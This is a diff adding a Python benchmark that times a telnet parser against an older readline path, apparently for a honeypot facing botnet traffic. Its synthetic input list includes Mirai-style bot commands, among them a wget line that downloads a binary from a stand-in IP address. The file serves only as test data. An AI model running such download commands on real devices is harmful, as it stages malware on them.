@@ -0,0 +1,111 @@
+#!/usr/bin/env python3
+# bench_telnet.py - input throughput of the telnet parser vs the old readline path
+import argparse
+import asyncio
+import random
+import time
+
+import telnetproto as tp
+
+COMMANDS = [
+    b"enable", b"system", b"shell", b"sh", b"/bin/busybox MIRAI", b"cat /proc/cpuinfo",
+    b"cd /tmp || cd /var/run || cd /mnt", b"wget http://198.51.100.7/bins/mips -O- > .m",
+    b"/system resource print", b"uname -a", b"echo -e '\\x41\\x4b\\x34\\x37'",
+]
+NEGOTIATION = [
+    bytes((tp.IAC, tp.WILL, tp.TTYPE)), bytes((tp.IAC, tp.DO, tp.ECHO)), bytes((tp.IAC, tp.DO, tp.SGA)),
+    bytes((tp.IAC, tp.WILL, tp.NAWS)), bytes((tp.IAC, tp.SB, tp.NAWS, 0, 80, 0, 24, tp.IAC, tp.SE)),
+]
+
+def make_stream(size, iac_every, seed=1):
+    """Bot-like input: command lines, with a negotiation every `iac_every` lines."""
+    rng = random.Random(seed)
+    parts, total, n = [], 0, 0
+    while total < size:
+        if iac_every and n % iac_every == 0:
+            parts.append(rng.choice(NEGOTIATION))
+        parts.append(rng.choice(COMMANDS) + b"\r\n")
+        total += len(parts[-1])
+        n += 1
+    return b"".join(parts)
+
+def chunks(data, size):
+    return [data[i:i + size] for i in range(0, len(data), size)]
+
+def readline_path(data, chunk):
+    """The previous path: StreamReader.readline() + decode(errors="ignore")."""
+    async def run():
+        reader = asyncio.StreamReader(limit=4096)
+        for c in chunks(data, chunk):
+            reader.feed_data(c)
+        reader.feed_eof()
+        n = 0
+        while True:
+            line = await reader.readline()
+            if not line:
+                return n
+            line.decode(errors="ignore").rstrip("\r\n")
+            n += 1
+    return asyncio.run(run())
+
+def parser_path(data, chunk):
+    parser = tp.TelnetParser()
+    n = 0
+    for c in chunks(data, chunk):
+        for line in parser.feed(c):
+            line.decode(errors="ignore")
+            n += 1
+        parser.take_replies()
+    return n
+
+def per_byte_path(data, chunk):
+    """Reference: the same state machine stepping one byte at a time in Python."""
+    n, state, line = 0, 0, bytearray()
+    for c in chunks(data, chunk):
+        for b in c:
+            if state == 0:
+                if b == tp.IAC:
+                    state = 1
+                elif b == 10:
+                    bytes(line).rstrip(b"\r").decode(errors="ignore")
+                    line.clear()
+                    n += 1
+                else:
+                    line.append(b)
+            elif state == 1:
+                state = 4 if b == tp.SB else 2 if b in (tp.WILL, tp.WONT, tp.DO, tp.DONT) else 0
+            elif state == 2:
+                state = 0
+            elif state == 4:
+                if b == tp.IAC:
+                    state = 5
+            elif state == 5:
+                state = 0 if b == tp.SE else 4
+    return n
+
+def bench(fn, data, chunk, repeat):
+    best = float("inf")
+    for _ in range(repeat):
+        t0 = time.perf_counter()
+        fn(data, chunk)
+        best = min(best, time.perf_counter() - t0)
+    return len(data) / best / 1e6
+
+def main():
+    p = argparse.ArgumentParser(description="Throughput (MB/s) of telnet input handling.")
+    p.add_argument("--mb", type=float, default=4.0, help="Input size per run in MB (default 4)")
+    p.add_argument("--chunk", type=int, default=4096, help="Socket read size (default 4096)")
+    p.add_argument("--repeat", type=int, default=3, help="Runs per path, best is reported")
+    args = p.parse_args()
+    size = int(args.mb * 1e6)
+    for label, every in (("plain lines", 0), ("IAC every 10 lines", 10), ("IAC every line", 1)):
+        data = make_stream(size, every)
+        # both paths must see the same number of lines before timing means anything
+        assert parser_path(data, args.chunk) == per_byte_path(data, args.chunk)
+        print(f"{label}:")
+        for name, fn in (("readline (old)", readline_path), ("telnet parser", parser_path),
+                         ("per-byte loop", per_byte_path)):
+            print(f"  {name:15s}: {bench(fn, data, args.chunk, args.repeat):8.1f} MB/s")
+
+if __name__ == "__main__":
+    main()